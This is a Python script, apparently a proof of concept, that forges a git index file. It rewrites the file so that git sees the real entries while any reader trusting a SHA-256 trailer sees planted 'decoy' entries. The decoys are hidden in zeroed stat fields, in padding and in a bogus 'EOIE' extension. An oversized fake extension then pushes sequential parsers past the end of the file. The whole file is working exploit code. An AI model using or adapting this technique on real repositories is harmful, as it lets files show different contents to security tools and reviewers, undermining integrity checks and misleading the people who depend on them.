#!/usr/bin/env python3
# poly.py INDEX: rewrites a SHA-1 v2 git index (git's own entries kept) so that its trailer is a
# SHA-256 of the file: git (which does not verify the trailer when reading) reads the same
# entries, while a reader that takes the hash length from the trailer parses 32-byte object ids
# and so sees other ("decoy") entries, laid over the stat fields of the real ones and over an
# extension git skips silently ("EOIE" in the middle: "already handled").
import sys, struct, hashlib
p = sys.argv[1]; forged = sys.argv[2].encode() if len(sys.argv) > 2 else b"Makefile"
b = bytearray(open(p, "rb").read())
assert b[:4] == b"DIRC" and struct.unpack(">I", b[4:8])[0] == 2
n = struct.unpack(">I", b[8:12])[0]
off = 12; ents = []
for _ in range(n):
    s = off; nl = struct.unpack(">H", b[s+60:s+62])[0] & 0xfff
    name = bytes(b[s+62:s+62+nl]); off = s + ((62 + nl + 8) & ~7); ents.append((s, off, name))
ent_end = off
body = bytearray(b[:ent_end])
free = set()  # bytes of the real view git does not need exactly
for s, e, name in ents:
    if name != forged:
        body[s+36:s+40] = b"\0\0\0\0"          # size 0: git compares the content again
        free.update(range(s, s+24)); free.update(range(s+28, s+36))
    free.update(range(s+62+len(name)+1, e))      # padding after the name's NUL
HDR = range(ent_end, ent_end + 8)  # git's "EOIE" header goes here: no decoy byte may rely on it
def ok_set(buf, pos, val):
    if pos in HDR: return False
    if pos < ent_end:
        if pos in free: buf[pos] = val; return True
        return buf[pos] == val
    while len(buf) <= pos: buf.append(0x41)
    buf[pos] = val; return True
# decoys: each needs flags (namelen L, bit 0x4000 clear) at +72, L non-NUL name bytes, a NUL after
d = 12
for i in range(n):
    for L in range(1, 40):
        trial = bytearray(body); okk = True
        fl = struct.pack(">H", L)
        for k in range(2): okk &= ok_set(trial, d+72+k, fl[k])
        for k in range(L):
            pos = d+74+k
            if pos in HDR: okk = False
            elif pos < ent_end and pos not in free:
                okk &= trial[pos] != 0
            else: okk &= ok_set(trial, pos, 0x78)
        okk &= ok_set(trial, d+74+L, 0)
        if okk: body = trial; break
    else: sys.exit("no decoy fits at %d" % d)
    d = d + ((74 + L + 8) & ~7)
# after the decoys, an "extension" whose size sends a sequential reader past the end
while len(body) < d + 8: body.append(0x41)
if d < ent_end: sys.exit("decoys end inside the real entries")
body[d:d+8] = b"Zzzz" + struct.pack(">I", 0xfffffff0)
while len(body) < ent_end + 8: body.append(0x41)
payload = bytes(body[ent_end+8:])
# git's view: one extension "EOIE" from ent_end covering the payload and the first 12 bytes of
# the 32-byte trailer; its last 20 bytes are git's (unverified) trailer.
out = bytes(body[:ent_end]) + b"EOIE" + struct.pack(">I", len(payload) + 12) + payload
out += hashlib.sha256(out).digest()
open(p, "wb").write(out)
print("entries", n, "real end", ent_end, "decoys end", d, "file", len(out))
